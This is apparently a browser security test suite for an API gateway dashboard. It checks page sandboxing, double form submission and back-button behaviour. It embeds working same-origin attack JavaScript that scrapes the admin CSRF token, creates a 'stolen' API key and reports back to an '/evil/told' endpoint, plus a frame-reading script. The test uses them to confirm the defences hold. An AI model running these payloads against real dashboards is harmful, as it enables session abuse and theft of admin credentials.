#!/usr/bin/python3
"""What only a browser can show: a page of an upstream on the dashboard's own host reads and does nothing
there, a form that is sent twice makes one record, and the way back repeats nothing."""
import base64
import os
import sys
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../tools"))
from chromium import Chromium  # noqa: E402
from processes import wait_until  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from show_pages import PASSWORD, owner  # noqa: E402
from tap import case, done_testing, is_eq, ok  # noqa: E402
from website import Site  # noqa: E402

site = Site()

# Tries all that a page of the same host may: what it got is told to the upstream itself.
SCRIPT = """
document.title = "ran";
const tell = (what, value) => fetch("/evil/told?" + what + "=" + encodeURIComponent(String(value).slice(0, 200)));
const steal = async () => {
  const got = await fetch("/admin/users", {credentials: "include"}).then(r => r.text(), e => "failed");
  const token = (got.match(/csrf-token" content="([0-9a-f]+)"/) || [])[1] || "";
  await tell("token", token);
  await fetch("/admin/api/v1/keys", {method: "POST", credentials: "include", headers:
    {"X-CSRF-Token": token, "Content-Type": "application/json"}, body: '{"name": "stolen"}'}).catch(() => 0);
  const frame = document.createElement("iframe");
  frame.src = "/admin/";
  document.body.append(frame);
  await tell("done", 1);
};
steal();
"""


def page(kind, body, *more):
    """The path that makes the upstream answer with it."""
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n" + "".join(m + "\r\n" for m in more)
    raw = (head + f"Content-Length: {len(body.encode())}\r\nConnection: close\r\n\r\n{body}").encode()
    return "/evil/page?up=raw:" + base64.urlsafe_b64encode(raw).decode().rstrip("=")


def told():
    """What a script on the page could tell."""
    return {n: v for r in site.upstream_log() if r["target"].startswith("/told?")
            for n, v in urllib.parse.parse_qsl(r["target"].split("?", 1)[1])}


HTML = f"<!doctype html><title>quiet</title><body><script>{SCRIPT}</script>"
XHTML = ('<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body>'
         f"<script><![CDATA[{SCRIPT}]]></script></body></html>")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title>'
       f"<script><![CDATA[{SCRIPT}]]></script></svg>")

with site, Chromium(site) as browser:
    boss = owner(site)
    api = site.make_api("evil", "/evil/", auth={"keyless": True})
    inner = page("text/html", HTML)
    browser.sign_in("admin", PASSWORD)
    is_eq(browser.path(), "/admin/", "the administrator is signed in")

    with case("an upstream's page"):
        for name, path in (
                ("HTML", inner), ("XHTML", page("application/xhtml+xml", XHTML)),
                ("SVG", page("image/svg+xml", SVG)),
                ("with a policy of its own", page("text/html", HTML, "Content-Security-Policy: sandbox "
                                                  "allow-scripts allow-same-origin")),
                ("in a frame", page("text/html", f'<!doctype html><iframe src="{inner}"></iframe>')),
                ("as an object", page("text/html", f'<!doctype html><object data="{inner}"></object>')),
                ("as an embed", page("text/html", f'<!doctype html><embed src="{inner}">'))):
            site.upstream_clear()
            browser.driver.get(site.url + path)
            ok(browser.driver.title != "ran", f"{name}: its script does not run")
            is_eq(told(), {}, f"{name}: and tells nothing")
        is_eq(site.rest("GET", "/keys?q=stolen").body["items"], [], "no key was made")
        form = ('<!doctype html><form method="post" action="/admin/apis/new"><input name="name" value="x">'
                '<button id="b">Go</button></form>')
        before = len(site.rest("GET", "/apis").body["items"])
        browser.driver.get(site.url + page("text/html", form))
        browser.driver.find_element(By.ID, "b").click()
        is_eq(browser.driver.current_url.split("?")[0], site.url + "/evil/page", "its form is not sent")
        is_eq(len(site.rest("GET", "/apis").body["items"]), before, "and no API was made")
        browser.get("/admin/")
        is_eq(browser.path(), "/admin/", "the administrator is signed in still")

    with case("with browser_pages"):
        # What the sandbox is there for; and that this test would see it.
        site.rest("PATCH", f"/apis/{api['id']}", {"browser_pages": True})
        site.upstream_clear()
        browser.driver.get(site.url + inner)
        wait_until(lambda: "done" in told(), "the script's end")
        ok(len(told()["token"]) == 64, "such a page reads the dashboard, as the README says")
        is_eq(len(site.rest("GET", "/keys?q=stolen").body["items"]), 1, "and acts there")
        site.rest("PATCH", f"/apis/{api['id']}", {"browser_pages": False})

    with case("another page's frame"):
        site.rest("PATCH", f"/apis/{api['id']}", {"browser_pages": True})
        site.upstream_clear()
        browser.driver.get(site.url + page("text/html", """<!doctype html><body><script>
            const frame = document.createElement("iframe");
            frame.onload = () => { let text = "none";
              try { text = frame.contentDocument.body.textContent } catch (e) { text = "refused" }
              fetch("/evil/told?frame=" + encodeURIComponent(text.slice(0, 50))); };
            frame.src = "/admin/keys"; document.body.append(frame);</script>"""))
        wait_until(lambda: "frame" in told(), "the frame")
        ok("Keys" not in told()["frame"], "the dashboard is in nobody's frame")
        site.rest("PATCH", f"/apis/{api['id']}", {"browser_pages": False})

    with case("sent twice"):
        def twice(button):
            """As a double click does it, past the script that would hold the second one back."""
            browser.follow(lambda: browser.run(
                "const f = [...document.querySelectorAll('main form')].find(f => [...f.querySelectorAll("
                "'button')].some(b => b.textContent.trim() == arguments[0]));"
                "HTMLFormElement.prototype.submit.call(f);"
                "HTMLFormElement.prototype.submit.call(f);", button))

        cert = site.make_cert("twice")
        browser.get("/admin/apis/new")
        for label, text in (("Name", "Twice"), ("Listen path", "/twice/"), ("Target URL", site.upstream_url)):
            browser.type(label, text)
        twice("Create")
        browser.get("/admin/policies/new")
        browser.type("Name", "Twice")
        twice("Create")
        browser.get("/admin/keys/new")
        browser.type("Name", "Twice")
        browser.paste("Certificate (PEM)", cert.pem)
        twice("Create")
        browser.get("/admin/keys/new")
        browser.type("Name", "Token twice")
        browser.tick("Auth token")
        twice("Create")
        browser.get("/admin/tokens")
        browser.type("Name", "Twice")
        twice("Create")
        browser.get("/admin/users/new")
        browser.type("Name", "Twice")
        twice("Create")
        for what, path, count in (("API", "/apis?q=Twice", 1), ("policy", "/policies?q=Twice", 1),
                                  ("keys", "/keys?q=Twice", 2), ("token", "/tokens?q=Twice", 1),
                                  ("user", "/users?q=Twice", 1)):
            is_eq(len(site.rest("GET", path).body["items"]), count, f"{what}: made once")
        browser.get("/admin/policies/new")
        is_eq(browser.run("""
            const form = document.querySelector("main form[method=post]");
            const shown = (persisted) => dispatchEvent(new PageTransitionEvent("pageshow", { persisted }));
            const passes = () => form.dispatchEvent(new SubmitEvent("submit", { cancelable: true }));
            const first = passes();
            shown(false);
            const second = passes();
            shown(true);
            return [first, second, passes()];"""), [True, False, True],
              "the page's script lets one through, also while the page loads, and another one on the way back")

    with case("the way back"):
        def revisions():
            return [(r, i["id"], i["revision"]) for r in ("apis", "keys", "policies", "users")
                    for i in site.rest("GET", f"/{r}?limit=500").body["items"]]

        browser.get("/admin/apis/" + api["id"])
        browser.tick("Cut this prefix off before forwarding", False)
        browser.press("Save")
        before = revisions()
        for _ in range(3):
            browser.driver.back()
        for _ in range(2):
            browser.driver.forward()
        browser.get(browser.path())
        is_eq(revisions(), before, "back and forth nothing is done again")
        browser.get("/admin/apis/" + api["id"])
        browser.driver.refresh()
        is_eq(revisions(), before, "nor by loading anew")

done_testing()
